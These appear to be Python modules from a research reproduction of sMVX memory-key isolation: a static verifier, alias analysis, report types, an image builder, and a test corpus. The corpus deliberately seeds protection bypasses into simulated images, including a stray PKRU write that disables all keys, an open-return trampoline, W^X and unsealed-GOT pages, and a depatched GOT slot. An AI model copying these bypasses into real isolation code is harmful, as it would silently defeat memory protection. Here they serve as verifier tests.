        # passes run once inside the live audit, against the *actual*
        # intercept table.
        verify_image(monitor.target.image, report=report)
    return audit_live_space(process, monitor=monitor, roots=roots,
                            report=report)


# ---------------------------------------------------------------------------
# trace cross-check
# ---------------------------------------------------------------------------

def explain_alarm(alarm, report: VerifyReport) -> Optional[Dict]:
    """Cross-check a ``repro.trace``/monitor divergence alarm against the
    static divergence surface.

    Returns the matching lint entry when the alarm's libc call was
    statically predicted as a benign-divergence source (either a
    ``DIV001``/``DIV002`` finding or a neutralized surface entry), or
    ``None`` when the alarm is *not* explained by the static surface —
    i.e. it looks like a genuine attack-induced divergence.
    """
    name = getattr(alarm, "libc_name", "") or ""
    if not name:
        return None
    for finding in report.findings:
        if finding.code in ("DIV001", "DIV002") \
                and f"{name!r}" in finding.message:
            return {"name": name, "predicted": True,
                    "finding": finding.to_dict()}
    for entry in report.divergence_surface:
        if entry["name"] == name:
            return {"name": name, "predicted": True, "surface": entry}
    return None


# ---------------------------------------------------------------------------
# CLI
# ---------------------------------------------------------------------------

#: bundled application registry: name -> (image builder, default roots)
def _bundled_apps():
    from repro.apps.littled import build_littled_image
    from repro.apps.minx import build_minx_image
    from repro.apps.nbench.workloads import (
        NBENCH_WORKLOADS,
        build_nbench_image,
    )
    return {
        "minx": (build_minx_image,
                 ("minx_http_process_request_line",)),
        "littled": (build_littled_image, ("server_main_loop",)),
        "nbench": (build_nbench_image,
                   tuple(spec.func for spec in NBENCH_WORKLOADS)),
    }


def _live_report(app: str, roots: Sequence[str]) -> VerifyReport:
    """Boot the app with the monitor attached and audit the live space."""
    from repro.kernel import Kernel
    kernel = Kernel()
    if app == "minx":
        from repro.apps.minx import MinxServer
        server = MinxServer(kernel, protect=roots[0], smvx=True)
        return verify_process(server.process, server.monitor, roots=roots)
    if app == "littled":
        from repro.apps.littled import LittledServer
        server = LittledServer(kernel, protect=roots[0], smvx=True)
        return verify_process(server.process, server.monitor, roots=roots)
    if app == "nbench":
        from repro.apps.nbench.workloads import (
            build_nbench_image,
            provision_nbench_files,
        )
        from repro.core import AlarmLog, attach_smvx, build_smvx_stub_image
        from repro.libc import build_libc_image
        from repro.process import GuestProcess
        provision_nbench_files(kernel.vfs)
        process = GuestProcess(kernel, "nbench", heap_pages=128)
        process.load_image(build_libc_image(), tag="libc")
        process.load_image(build_smvx_stub_image(), tag="libsmvx")
        target = process.load_image(build_nbench_image(), main=True)
        monitor = attach_smvx(process, target, alarm_log=AlarmLog())
        return verify_process(process, monitor, roots=roots)
    raise ValueError(f"unknown app {app!r}")


def main(argv: Optional[List[str]] = None) -> int:
    parser = argparse.ArgumentParser(
        prog="python -m repro.analysis.verify",
        description="Static MPK-isolation / interception-coverage / "
                    "divergence-surface verifier for sMVX images")
    parser.add_argument("apps", nargs="*",
                        help="bundled apps to verify (default: all of "
                             "minx, littled, nbench)")
    parser.add_argument("--live", action="store_true",
                        help="boot each app with the monitor attached "
                             "and audit the live address space too")
    parser.add_argument("--root", action="append", default=[],
                        help="override the protected root(s)")
    parser.add_argument("--json", action="store_true",
                        help="emit one JSON report per target")
    parser.add_argument("--scope", action="store_true",
                        help="also lint the protected set against the "
                             "automatic scope analysis (SCOPE00x)")
    parser.add_argument("--strict-warnings", action="store_true",
                        help="exit non-zero on warnings as well")
    parser.add_argument("--corpus", action="store_true",
                        help="run the seeded broken-image corpus; exits "
                             "0 iff the verifier catches every seeded "
                             "violation")
    args = parser.parse_args(argv)

    if args.corpus:
        from repro.analysis.corpus import run_corpus
        failed = 0
        for result in run_corpus():
            status = "caught" if result.caught else "MISSED"
            print(f"corpus {result.name}: {status} "
                  f"(expected {sorted(result.expected)}, "
                  f"found {sorted(result.found)})")
            if not result.caught:
                failed += 1
        print(f"corpus: {failed} of the seeded violations missed"
              if failed else "corpus: every seeded violation caught")
        return 1 if failed else 0

    registry = _bundled_apps()
    names = args.apps or sorted(registry)
    exit_code = 0
    for name in names:
        if name not in registry:
            print(f"unknown app {name!r}; bundled: "
                  f"{', '.join(sorted(registry))}", file=sys.stderr)
            return 2
        build, default_roots = registry[name]
        roots = tuple(args.root) or default_roots
        if args.live:
            # verify_process covers the offline image checks too
            report = _live_report(name, roots)
            report.target = name
        else:
            report = verify_image(build(), roots=roots, scope=args.scope)
        print(report.to_json() if args.json else report.format())
        bad = not report.ok or (args.strict_warnings and report.warnings)
        if bad:
            exit_code = 1
    return exit_code


if __name__ == "__main__":   # pragma: no cover - exercised via CLI tests
    sys.exit(main())
