"""Static pointer (alias) analysis over program images.

Paper §3.4: "we combine the static pointer analysis and runtime pointer
scanning ... use the pointer analysis (i.e., alias analysis) to narrow
down the pointer locations".  Our images make the static part exact for
link-time pointers: every ``DataRelocation`` is by construction a slot
holding an address, and pointer tables declare their element count.  The
runtime scanner can then visit only those ``.data`` slots, while ``.bss``
and the heap — whose pointer population is runtime-created — still require
the full 8-byte-aligned scan (which is why Table 2's heap scan dominates).

Beyond narrowing the relocator's scan set, the same relocation facts
answer a control-flow question: *which functions can an indirect call
reach?*  Every function whose address is stored in a static pointer slot
is **address-taken**; a ``CALL_R`` whose register provably holds a value
loaded from a specific pointer table can only target that table's
entries.  :func:`resolve_indirect_sites` proves the second, stronger fact
per call site by constant-propagating table addresses (``LEA``) through
register moves, table-offset arithmetic, and ``LOAD``s over the recovered
CFG — the classic "function-pointer table" narrowing that lets the call
graph replace ``<indirect>`` edges with concrete ones.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, FrozenSet, List, Mapping, Optional, Set, Tuple

from repro.analysis.cfg import FunctionCFG, function_cfg
from repro.loader.image import ProgramImage, Symbol
from repro.machine.isa import INSTR_SIZE, Instruction, Op


@dataclass(frozen=True)
class PointerTable:
    """One statically initialized array of code pointers in ``.data``."""

    name: str
    #: function names per 8-byte slot, in table order
    targets: Tuple[str, ...]
    #: ``.data``-relative offset of slot 0
    data_offset: int
    #: True when *every* slot's relocation target is a defined function
    #: (a table mixing in data pointers can still be partially resolved)
    all_functions: bool = True

    def target_at(self, slot_offset: int) -> Optional[str]:
        """Function stored at byte offset ``slot_offset`` into the table."""
        index, rem = divmod(slot_offset, 8)
        if rem or not 0 <= index < len(self.targets):
            return None
        return self.targets[index] or None


@dataclass(frozen=True)
class AliasAnalysis:
    """Result of the static pass for one image."""

    image_name: str
    #: section-relative offsets of ``.data`` slots statically known to
    #: hold pointers.
    data_pointer_offsets: FrozenSet[int]
    #: True when the analysis proved it saw *every* static pointer slot
    #: (always true for our images; a C front end would be conservative).
    exhaustive_for_data: bool = True
    #: statically initialized code-pointer tables, by table symbol
    pointer_tables: Mapping[str, PointerTable] = field(default_factory=dict)
    #: every function whose address escapes into a static pointer slot —
    #: the sound target set for an indirect call nothing else narrows
    address_taken: FrozenSet[str] = frozenset()
    #: per-function, per-site resolved indirect-call targets:
    #: ``{function: {site_addr: (callee, ...)}}`` — only sites the
    #: table-propagation proof actually pinned down appear here.
    indirect_targets: Mapping[str, Mapping[int, Tuple[str, ...]]] = \
        field(default_factory=dict)

    @property
    def narrowed_slot_count(self) -> int:
        return len(self.data_pointer_offsets)

    def resolved_targets(self, function: str,
                         site: int) -> Optional[Tuple[str, ...]]:
        """Resolved callees of one ``CALL_R``/``JMP_R`` site, or None."""
        return self.indirect_targets.get(function, {}).get(site)


# ---------------------------------------------------------------------------
# pointer-table fact extraction
# ---------------------------------------------------------------------------

def _data_objects(image: ProgramImage) -> List[Symbol]:
    return [sym for sym in image.symbols
            if sym.section == ".data" and sym.kind == "object"]


def _collect_pointer_tables(image: ProgramImage) -> Dict[str, PointerTable]:
    """Group ``.data`` relocations under their containing object symbol."""
    func_names = {sym.name for sym in image.function_symbols()}
    by_object: Dict[Symbol, Dict[int, str]] = {}
    for relocation in image.relocations:
        if relocation.section != ".data":
            continue
        for sym in _data_objects(image):
            if sym.offset <= relocation.offset < sym.offset + max(sym.size, 1):
                slots = by_object.setdefault(sym, {})
                slots[relocation.offset - sym.offset] = relocation.target
                break
    tables: Dict[str, PointerTable] = {}
    for sym, slots in by_object.items():
        count = max(sym.size // 8, 1)
        targets = []
        all_functions = True
        for index in range(count):
            target = slots.get(8 * index, "")
            if target and target not in func_names:
                all_functions = False
                target = ""          # data pointer: not a call target
            elif not target:
                all_functions = False
            targets.append(target)
        tables[sym.name] = PointerTable(sym.name, tuple(targets),
                                        sym.offset, all_functions)
    return tables


# ---------------------------------------------------------------------------
# per-site CALL_R / JMP_R resolution (constant propagation over the CFG)
# ---------------------------------------------------------------------------

class _Top:
    def __repr__(self) -> str:      # pragma: no cover - debugging aid
        return "⊤"


_TOP = _Top()


@dataclass(frozen=True)
class _TablePtr:
    """Register holds ``&table + delta`` (delta None = unknown slot)."""

    table: str
    delta: Optional[int]


@dataclass(frozen=True)
class _FuncSet:
    """Register holds the address of one of these functions."""

    names: FrozenSet[str]


def _section_bases(image: ProgramImage) -> Dict[str, int]:
    return {name: off for name, off, _size in image.section_layout()}


def _table_at(tables: Mapping[str, PointerTable], bases: Dict[str, int],
              absolute: int) -> Optional[Tuple[PointerTable, int]]:
    """Map a base-0 image address into (table, byte offset into it)."""
    data_base = bases.get(".data")
    if data_base is None or absolute < data_base:
        return None
    data_offset = absolute - data_base
    for table in tables.values():
        span = max(8 * len(table.targets), 8)
        if table.data_offset <= data_offset < table.data_offset + span:
            return table, data_offset - table.data_offset
    return None


def _resolve_function_sites(cfg: FunctionCFG,
                            tables: Mapping[str, PointerTable],
                            bases: Dict[str, int]
                            ) -> Dict[int, Tuple[str, ...]]:
    """Constant-propagate table pointers to each indirect site of one CFG.

    Lattice per register: ⊤ | _TablePtr | _FuncSet.  A merge of unequal
    values widens to ⊤ (same discipline as the PKRU gate pass), so a
    resolution survives only when *every* path to the site agrees.
    """
    if not cfg.indirect_sites:
        return {}
    resolved: Dict[int, object] = {}      # site -> frozenset | _TOP

    def transfer(regs: Dict[str, object], addr: int,
                 instr: Instruction) -> None:
        op = instr.op
        if op is Op.LEA:
            hit = _table_at(tables, bases, addr + INSTR_SIZE + instr.imm)
            regs[instr.reg1] = (_TablePtr(hit[0].name, hit[1])
                                if hit else _TOP)
        elif op is Op.MOV_RR:
            regs[instr.reg1] = regs.get(instr.reg2, _TOP)
        elif op in (Op.ADD_RI, Op.SUB_RI):
            value = regs.get(instr.reg1, _TOP)
            if isinstance(value, _TablePtr) and value.delta is not None:
                sign = 1 if op is Op.ADD_RI else -1
                regs[instr.reg1] = _TablePtr(value.table,
                                             value.delta + sign * instr.imm)
            else:
                regs[instr.reg1] = _TOP
        elif op is Op.ADD_RR:
            # runtime-indexed table walk: &table + i*8 with i unknown —
            # the register still points *somewhere into that table*
            left = regs.get(instr.reg1, _TOP)
            if isinstance(left, _TablePtr):
                regs[instr.reg1] = _TablePtr(left.table, None)
            else:
                regs[instr.reg1] = _TOP
        elif op is Op.LOAD:
            base = regs.get(instr.reg2, _TOP)
            value: object = _TOP
            if isinstance(base, _TablePtr):
                table = tables[base.table]
                if base.delta is None:
                    names = frozenset(t for t in table.targets if t)
                    if names and table.all_functions:
                        value = _FuncSet(names)
                else:
                    target = table.target_at(base.delta + instr.imm)
                    if target:
                        value = _FuncSet(frozenset((target,)))
            regs[instr.reg1] = value
        elif op in (Op.CALL, Op.HLCALL):
            regs.clear()              # caller-saved: callee clobbers all
        elif op in (Op.CALL_R, Op.JMP_R):
            value = regs.get(instr.reg1, _TOP)
            found = (value.names if isinstance(value, _FuncSet) else _TOP)
            prior = resolved.get(addr)
            if prior is None:
                resolved[addr] = found
            elif prior is not _TOP and found is not _TOP:
                resolved[addr] = prior | found
            else:
                resolved[addr] = _TOP
            if op is Op.CALL_R:
                regs.clear()
        elif instr.reg1 is not None and op is not Op.STORE \
                and op is not Op.STORE8:
            # any other reg1-writing op produces an unknown value
            regs[instr.reg1] = _TOP

    def merge(left: Dict[str, object],
              right: Dict[str, object]) -> Dict[str, object]:
        return {reg: left[reg] for reg in left
                if reg in right and left[reg] == right[reg]}

    in_states: Dict[int, Dict[str, object]] = {cfg.entry: {}}
    worklist = [cfg.entry]
    while worklist:
        start = worklist.pop()
        block = cfg.blocks.get(start)
        if block is None:
            continue
        regs = dict(in_states[start])
        for addr, instr in block.instructions:
            transfer(regs, addr, instr)
        for succ in block.successors:
            if succ not in in_states:
                in_states[succ] = dict(regs)
                worklist.append(succ)
            else:
                merged = merge(in_states[succ], regs)
                if merged != in_states[succ]:
                    in_states[succ] = merged
                    worklist.append(succ)
    return {site: tuple(sorted(names))
            for site, names in resolved.items()
            if names is not _TOP and names}


def resolve_indirect_sites(image: ProgramImage
                           ) -> Dict[str, Dict[int, Tuple[str, ...]]]:
    """Per-function resolved targets of every provable indirect site."""
    tables = _collect_pointer_tables(image)
    if not tables:
        return {}
    bases = _section_bases(image)
    hl_names = {hl.name for hl in image.hl_functions}
    result: Dict[str, Dict[int, Tuple[str, ...]]] = {}
    for sym in image.function_symbols():
        if sym.section != ".text" or sym.name in hl_names:
            continue
        sites = _resolve_function_sites(function_cfg(image, sym),
                                        tables, bases)
        if sites:
            result[sym.name] = sites
    return result


def analyze_image_pointers(image: ProgramImage) -> AliasAnalysis:
    """Collect the statically known pointer slots of ``.data``, the
    code-pointer tables they form, and per-site indirect resolutions."""
    offsets: Set[int] = set()
    for relocation in image.relocations:
        if relocation.section == ".data":
            offsets.add(relocation.offset)
    tables = _collect_pointer_tables(image)
    func_names = {sym.name for sym in image.function_symbols()}
    taken = frozenset(
        relocation.target for relocation in image.relocations
        if relocation.target in func_names)
    return AliasAnalysis(image.name, frozenset(offsets),
                         pointer_tables=tables,
                         address_taken=taken,
                         indirect_targets=resolve_indirect_sites(image))
