"""Static pointer (alias) analysis over program images.

Paper §3.4: "we combine the static pointer analysis and runtime pointer
scanning ... use the pointer analysis (i.e., alias analysis) to narrow
down the pointer locations".  Our images make the static part exact for
link-time pointers: every ``DataRelocation`` is by construction a slot
holding an address, and pointer tables declare their element count.  The
runtime scanner can then visit only those ``.data`` slots, while ``.bss``
and the heap — whose pointer population is runtime-created — still require
the full 8-byte-aligned scan (which is why Table 2's heap scan dominates).
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import FrozenSet, List, Set

from repro.loader.image import ProgramImage


@dataclass(frozen=True)
class AliasAnalysis:
    """Result of the static pass for one image."""

    image_name: str
    #: section-relative offsets of ``.data`` slots statically known to
    #: hold pointers.
    data_pointer_offsets: FrozenSet[int]
    #: True when the analysis proved it saw *every* static pointer slot
    #: (always true for our images; a C front end would be conservative).
    exhaustive_for_data: bool = True

    @property
    def narrowed_slot_count(self) -> int:
        return len(self.data_pointer_offsets)


def analyze_image_pointers(image: ProgramImage) -> AliasAnalysis:
    """Collect the statically known pointer slots of ``.data``."""
    offsets: Set[int] = set()
    for relocation in image.relocations:
        if relocation.section == ".data":
            offsets.add(relocation.offset)
    return AliasAnalysis(image.name, frozenset(offsets))
