"""Typed findings shared by the static-verifier passes.

Every check in ``repro.analysis`` (PKRU-gate dataflow, interception
coverage, divergence-surface lint, live-space audit) reports problems as
:class:`Finding` values collected into a :class:`VerifyReport`.  Findings
are plain frozen dataclasses with a stable machine-readable ``code`` so
CI can assert on exact violations, plus JSON output for tooling.
"""

from __future__ import annotations

import enum
import json
from dataclasses import dataclass, field
from typing import Dict, List, Optional


class Severity(enum.Enum):
    ERROR = "error"       # invariant violated; unsafe to run
    WARNING = "warning"   # soundness gap or suspicious shape
    INFO = "info"         # informational (surfaced, never gating)

    def __str__(self) -> str:  # pragma: no cover - trivial
        return self.value


@dataclass(frozen=True)
class Finding:
    """One verifier diagnostic."""

    code: str             # e.g. "PKRU001"; stable across releases
    severity: Severity
    message: str
    image: str = ""       # image name the finding is about, if any
    symbol: str = ""      # function/symbol, if any
    address: int = -1     # guest address or section offset, -1 if n/a

    def to_dict(self) -> Dict:
        out = {"code": self.code, "severity": self.severity.value,
               "message": self.message}
        if self.image:
            out["image"] = self.image
        if self.symbol:
            out["symbol"] = self.symbol
        if self.address >= 0:
            out["address"] = self.address
        return out

    def format(self) -> str:
        where = ":".join(part for part in (self.image, self.symbol) if part)
        addr = f" @{self.address:#x}" if self.address >= 0 else ""
        prefix = f"{where}{addr}: " if where or addr else ""
        return f"[{self.severity.value.upper()}] {self.code} " \
               f"{prefix}{self.message}"


@dataclass
class VerifyReport:
    """All findings from one verification run over one target."""

    target: str
    findings: List[Finding] = field(default_factory=list)
    #: names of the checks that actually ran (for "was X even checked")
    checks: List[str] = field(default_factory=list)
    #: divergence-surface entries: benign-divergence sources reachable
    #: from the replicated subtree and how the monitor neutralizes them;
    #: kept out of ``findings`` when fully neutralized (see verify.py).
    divergence_surface: List[Dict] = field(default_factory=list)

    def add(self, code: str, severity: Severity, message: str,
            image: str = "", symbol: str = "", address: int = -1) -> Finding:
        finding = Finding(code, severity, message, image, symbol, address)
        self.findings.append(finding)
        return finding

    def ran(self, check: str) -> None:
        if check not in self.checks:
            self.checks.append(check)

    def by_code(self, code: str) -> List[Finding]:
        return [f for f in self.findings if f.code == code]

    @property
    def errors(self) -> List[Finding]:
        return [f for f in self.findings if f.severity is Severity.ERROR]

    @property
    def warnings(self) -> List[Finding]:
        return [f for f in self.findings if f.severity is Severity.WARNING]

    @property
    def ok(self) -> bool:
        """Clean means no ERROR-severity findings."""
        return not self.errors

    def to_dict(self) -> Dict:
        return {
            "target": self.target,
            "ok": self.ok,
            "checks": list(self.checks),
            "findings": [f.to_dict() for f in self.findings],
            "divergence_surface": list(self.divergence_surface),
        }

    def to_json(self, indent: Optional[int] = 2) -> str:
        return json.dumps(self.to_dict(), indent=indent, sort_keys=True)

    def format(self) -> str:
        lines = [f"verify {self.target}: "
                 f"{'CLEAN' if self.ok else 'FAIL'} "
                 f"({len(self.errors)} errors, {len(self.warnings)} "
                 f"warnings; checks: {', '.join(self.checks) or 'none'})"]
        lines.extend(f"  {f.format()}" for f in self.findings)
        for entry in self.divergence_surface:
            lines.append(f"  [surface] {entry['name']}: {entry['category']}"
                         f" -> {entry['disposition']}")
        return "\n".join(lines)

    def merge(self, other: "VerifyReport") -> "VerifyReport":
        """Fold ``other`` in, dropping exact-duplicate findings and
        surface entries (offline and live passes overlap on purpose)."""
        seen = set(self.findings)
        for finding in other.findings:
            if finding not in seen:
                seen.add(finding)
                self.findings.append(finding)
        for check in other.checks:
            self.ran(check)
        for entry in other.divergence_surface:
            if entry not in self.divergence_surface:
                self.divergence_surface.append(entry)
        return self
