"""Seeded broken-image corpus for the static verifier.

A verifier is only as trustworthy as its known-bad test set.  Each
:class:`CorpusCase` here deliberately constructs one violation of an
sMVX deployment invariant — a stray ``wrpkru`` in application code, a
libc crossing missing from the intercept table, a W^X page, an unsealed
GOT, a trampoline that returns with the monitor key still open — and
records the finding code(s) the verifier *must* report.  CI runs
``python -m repro.analysis.verify --corpus`` and fails if any seeded
violation goes undetected (a silently weakened verifier is worse than
none: it certifies broken deployments as clean).

Cases never mutate the bundled app builders; each constructs its own
image or boots its own throwaway kernel/process.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Callable, List, Set

from repro.analysis.findings import VerifyReport
from repro.analysis.pkru import GatePolicy, verify_monitor_image
from repro.loader.image import ImageBuilder, ProgramImage
from repro.machine.asm import Assembler
from repro.machine.isa import INSTR_SIZE
from repro.machine.memory import PAGE_SIZE, PROT_RWX, page_align_up


@dataclass
class CorpusResult:
    """Outcome of running the verifier over one seeded-broken case."""

    name: str
    expected: Set[str]            # finding codes that must appear
    found: Set[str]               # finding codes actually reported
    report: VerifyReport = field(repr=False, default=None)

    @property
    def caught(self) -> bool:
        return self.expected <= self.found


@dataclass(frozen=True)
class CorpusCase:
    name: str
    description: str
    expected: Set[str]
    run: Callable[[], VerifyReport]


# ---------------------------------------------------------------------------
# image-level cases
# ---------------------------------------------------------------------------

def _noop(ctx) -> int:
    return 0


def _stray_wrpkru_image() -> ProgramImage:
    """An application image smuggling a PKRU write into a leaf helper."""
    builder = ImageBuilder("broken_stray_pkru")
    evil = Assembler()
    evil.mov_ri("rcx", 0)
    evil.mov_ri("rdx", 0)
    evil.mov_ri("rax", 0)
    evil.wrpkru()                 # opens every pkey, monitor's included
    evil.ret()
    builder.add_isa_function("disable_protection", evil)
    entry = Assembler()
    entry.call("disable_protection")
    entry.ret()
    builder.add_isa_function("app_main", entry)
    return builder.build()


def _case_stray_wrpkru() -> VerifyReport:
    from repro.analysis.verify import verify_image
    return verify_image(_stray_wrpkru_image(), roots=("app_main",))


def _missing_intercept_image() -> ProgramImage:
    """Protected root reaches ``gettimeofday`` (a benign-divergence
    source) through a helper; the monitor's table won't list it."""
    builder = ImageBuilder("broken_missing_intercept")
    builder.import_libc("gettimeofday", "write")
    builder.add_hl_function("timestamp", _noop, 0,
                            calls=("gettimeofday",))
    builder.add_hl_function("handle_request", _noop, 1,
                            calls=("timestamp", "write"))
    return builder.build()


def _case_missing_intercept() -> VerifyReport:
    from repro.analysis.verify import verify_image
    # simulate a monitor whose intercept table lost gettimeofday
    return verify_image(_missing_intercept_image(),
                        roots=("handle_request",),
                        intercepted={"write"})


def _open_ret_trampoline_image() -> ProgramImage:
    """A monitor whose trampoline returns without restoring PKRU."""
    builder = ImageBuilder("broken_open_ret")
    builder.add_hl_function("smvx_gate", _noop, 0, size=8 * INSTR_SIZE)
    tramp = Assembler()
    tramp.mov_ri("rcx", 0)
    tramp.mov_ri("rdx", 0)
    tramp.mov_ri("rax", _OPEN)
    tramp.wrpkru()
    tramp.call("smvx_gate")
    tramp.ret()                   # PKRU still open on return
    builder.add_isa_function("smvx_trampoline", tramp)
    return builder.build()


_OPEN = 0x0
_CLOSED = 0xC


def _case_open_ret_trampoline() -> VerifyReport:
    policy = GatePolicy(pkru_open=_OPEN, pkru_closed=_CLOSED)
    report = VerifyReport(target="broken_open_ret")
    report.ran("gate-dataflow")
    report.findings.extend(
        verify_monitor_image(_open_ret_trampoline_image(), policy))
    return report


def _under_selected_image() -> ProgramImage:
    """The hand-picked root protects the parser but not the function
    that actually reads from the socket — network input flows through
    ``net_read`` *unreplicated* before reaching the protected subtree."""
    builder = ImageBuilder("broken_under_selected")
    builder.import_libc("recv", "write")
    builder.add_hl_function("log_line", _noop, 0, calls=("write",))
    builder.add_hl_function("parse", _noop, 1, calls=("log_line",))
    builder.add_hl_function("net_read", _noop, 2,
                            calls=("recv", "parse"))
    builder.add_hl_function("app_main", _noop, 3, calls=("net_read",))
    return builder.build()


def _case_under_selected() -> VerifyReport:
    from repro.analysis.verify import verify_image
    # root "parse" covers {parse, log_line} but misses the statically
    # tainted socket reader: the scope lint must flag the gap
    return verify_image(_under_selected_image(), roots=("parse",),
                        scope=True)


def _tainted_indirect_image() -> ProgramImage:
    """A tainted dispatcher calls through a register the alias proof
    cannot pin down: the scope pass must widen conservatively (select
    the address-taken set) and say so."""
    builder = ImageBuilder("broken_tainted_indirect")
    builder.import_libc("recv")
    builder.add_hl_function("plugin_handle", _noop, 0)
    dispatch = Assembler()
    dispatch.load("rax", "rdi")   # handler pointer from caller's struct
    dispatch.call_r("rax")        # no table LEA on any path: unresolved
    dispatch.ret()
    builder.add_isa_function("dispatch", dispatch)
    builder.add_hl_function("recv_loop", _noop, 1,
                            calls=("recv", "dispatch"))
    builder.add_pointer_table("handlers", ("plugin_handle",))
    return builder.build()


def _case_tainted_indirect() -> VerifyReport:
    from repro.analysis.scope import compute_scope
    from repro.analysis.verify import verify_image
    image = _tainted_indirect_image()
    report = verify_image(image, roots=("recv_loop",), scope=True)
    # the lint must also have *acted* on the widening: the address-taken
    # plugin has to end up in the selected set, not just be warned about
    if "plugin_handle" not in compute_scope(image).selected:
        report.findings = [f for f in report.findings
                           if f.code != "SCOPE003"]
    return report


# ---------------------------------------------------------------------------
# live-space cases (each boots its own throwaway process)
# ---------------------------------------------------------------------------

def _boot_minx():
    from repro.apps.minx import MinxServer
    from repro.kernel import Kernel
    return MinxServer(Kernel(), protect="minx_http_process_request_line",
                      smvx=True)


def _case_wx_page() -> VerifyReport:
    from repro.analysis.verify import audit_live_space
    server = _boot_minx()
    process = server.process
    addr = process.space.mmap(None, PAGE_SIZE, prot=PROT_RWX,
                              tag="broken:wx-scratch")
    try:
        return audit_live_space(process, server.monitor)
    finally:
        process.space.munmap(addr, PAGE_SIZE)


def _case_unsealed_got() -> VerifyReport:
    from repro.analysis.verify import audit_live_space
    from repro.machine.memory import PROT_RW
    server = _boot_minx()
    target = server.monitor.target
    start, size = target.section_range(".got.plt")
    server.process.space.mprotect(start, page_align_up(max(size, 1)),
                                  PROT_RW)
    return audit_live_space(server.process, server.monitor)


def _case_restored_got_slot() -> VerifyReport:
    from repro.analysis.verify import audit_live_space
    from repro.machine.memory import PROT_READ, PROT_RW
    server = _boot_minx()
    process = server.process
    monitor = server.monitor
    target = monitor.target
    # un-seal, depatch one slot back to the real libc, re-seal: only
    # ICOV003 (bypassed interception) should fire, not GOT001
    start, size = target.section_range(".got.plt")
    length = page_align_up(max(size, 1))
    process.space.mprotect(start, length, PROT_RW)
    name = "recv"
    process.loader.patch_got_slot(target, name, monitor.real_libc[name])
    process.space.mprotect(start, length, PROT_READ)
    return audit_live_space(process, monitor)


CORPUS: List[CorpusCase] = [
    CorpusCase(
        "stray-wrpkru",
        "application image contains a PKRU write (pkey-disable gadget)",
        {"PKRU001"}, _case_stray_wrpkru),
    CorpusCase(
        "missing-intercept",
        "benign-divergence libc crossing absent from the intercept table",
        {"ICOV001", "DIV001"}, _case_missing_intercept),
    CorpusCase(
        "open-ret-trampoline",
        "monitor trampoline returns with the monitor key still open",
        {"PKRU004"}, _case_open_ret_trampoline),
    CorpusCase(
        "under-selected",
        "hand-picked root misses the statically tainted socket reader",
        {"SCOPE001"}, _case_under_selected),
    CorpusCase(
        "tainted-indirect",
        "tainted dispatcher with an unresolvable indirect call "
        "(conservative widening must select the address-taken set)",
        {"SCOPE003"}, _case_tainted_indirect),
    CorpusCase(
        "wx-page",
        "a page mapped writable and executable",
        {"WXOR001"}, _case_wx_page),
    CorpusCase(
        "unsealed-got",
        "target .got.plt left writable after interposition",
        {"GOT001"}, _case_unsealed_got),
    CorpusCase(
        "restored-got-slot",
        "one GOT slot depatched back to raw libc (interception bypass)",
        {"ICOV003"}, _case_restored_got_slot),
]


def run_corpus() -> List[CorpusResult]:
    """Run the verifier over every seeded-broken case."""
    results = []
    for case in CORPUS:
        report = case.run()
        results.append(CorpusResult(
            case.name, set(case.expected),
            {f.code for f in report.findings}, report))
    return results
