"""Program images and the dynamic loader.

An ELF-shaped program image (``.text/.plt/.rodata/.got.plt/.data/.bss``
plus a symbol table) built from a hybrid of ISA functions and high-level
guest functions, loaded position-independently at an arbitrary base — the
property both ASLR and sMVX's shift-and-clone variant creation rely on.

The profile tool reproduces the paper's pre-run script that dumps section
offsets/sizes and the symbol table to a ``/tmp`` profile file (§3.2).
"""

from repro.loader.image import (
    HLFunction,
    ImageBuilder,
    ProgramImage,
    Symbol,
)
from repro.loader.loader import LoadedImage, Loader
from repro.loader.profile_tool import BinaryProfile, generate_profile

__all__ = [
    "HLFunction",
    "ImageBuilder",
    "ProgramImage",
    "Symbol",
    "LoadedImage",
    "Loader",
    "BinaryProfile",
    "generate_profile",
]
