"""Program image format and builder.

An image is the on-disk shape of a guest program: byte content for each
section, a symbol table, the list of libc functions it imports (which
becomes ``.plt``/``.got.plt``), the table of high-level guest functions,
and data relocations.

Hybrid guest model (DESIGN.md §1): a *function* is either

* an **ISA function** — real simulated machine code, written with the
  :class:`~repro.machine.asm.Assembler`; or
* a **high-level (HL) function** — a Python callable executed against a
  guest context.  Its ``.text`` footprint is ``HLCALL idx; RET`` padded
  with NOPs to a declared size, so it has a genuine address range, shows
  up in the symbol table, can be pointed to by function pointers, and its
  return path goes through a *real* ``RET`` on the guest stack (which is
  exactly what the CVE experiment corrupts).

Every control-flow construct emitted here is RIP-relative; MOV_RI of an
absolute address is rejected at build time so images stay genuinely
position independent.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Callable, Dict, List, Optional, Sequence, Tuple

from repro.errors import ImageError, SymbolNotFound
from repro.machine.asm import Assembler
from repro.machine.isa import INSTR_SIZE, Instruction, Op
from repro.machine.memory import page_align_up

#: canonical section order within a loaded image; text-like first so the
#: executable region is contiguous, then read-only data, then writable.
SECTION_ORDER = (".text", ".plt", ".rodata", ".got.plt", ".data", ".bss")

EXEC_SECTIONS = (".text", ".plt")
WRITABLE_SECTIONS = (".got.plt", ".data", ".bss")

#: bytes per PLT entry: JMP_M <got slot> ; NOP
PLT_ENTRY_SIZE = 2 * INSTR_SIZE


@dataclass(frozen=True)
class Symbol:
    """One symbol-table entry (offsets are section-relative)."""

    name: str
    section: str
    offset: int
    size: int
    kind: str = "func"        # "func" | "object"


@dataclass
class HLFunction:
    """A high-level guest function and its calling metadata."""

    name: str
    fn: Callable
    arity: int
    variadic: bool = False
    #: statically declared callees (guest functions and libc names); the
    #: call-graph analysis combines these with CALL-target extraction from
    #: ISA functions to compute protected subtrees (paper Figure 2).
    calls: Tuple[str, ...] = ()


@dataclass
class DataRelocation:
    """`mem64[section+offset] = address_of(target) + addend` at load time.

    These model link-time initialized pointers (e.g. a static table of
    handler function pointers) — the very pointers the sMVX relocator must
    find and fix in the follower variant.
    """

    section: str
    offset: int
    target: str
    addend: int = 0


@dataclass
class ProgramImage:
    """The built, immutable program image."""

    name: str
    sections: Dict[str, bytes]
    bss_size: int
    symbols: List[Symbol]
    hl_functions: List[HLFunction]
    #: (text_offset, local_hl_index) of every HLCALL site, for loader fixup
    hl_sites: List[Tuple[int, int]]
    plt_imports: List[str]
    relocations: List[DataRelocation]

    def __post_init__(self) -> None:
        self._by_name = {sym.name: sym for sym in self.symbols}

